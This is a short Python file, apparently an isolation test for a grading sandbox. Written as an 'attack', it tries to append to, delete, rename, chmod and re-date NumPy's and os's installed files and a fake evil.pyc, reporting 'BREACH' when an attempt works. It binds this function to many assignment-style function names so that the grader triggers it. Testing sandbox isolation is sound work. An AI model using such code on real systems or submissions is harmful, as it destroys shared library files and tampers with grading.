# Attack: changes NumPy's files, so that the next student, or the grader, runs its code.
# %%
import os

import numpy


def attack(*arguments):
    for path in (numpy.__file__, os.__file__, os.path.dirname(numpy.__file__) + "/__pycache__/evil.pyc"):
        for act in (lambda name: open(name, "a").close(), os.unlink, lambda name: os.rename(name, "here")):
            try:
                act(path)
            except OSError:
                continue
            raise RuntimeError("BREACH changed " + path)
        before = os.stat(path if os.path.exists(path) else os.__file__)
        try:
            os.chmod(path, 0o777)
            os.utime(path, (1, 1))
        except OSError:
            continue
        if os.stat(path) != before:
            raise RuntimeError("BREACH mode of " + path)
    return 0.0


plate = body_rate = gyrostat_rate = air_force = kutta_step = march = flip_time = swing = attack
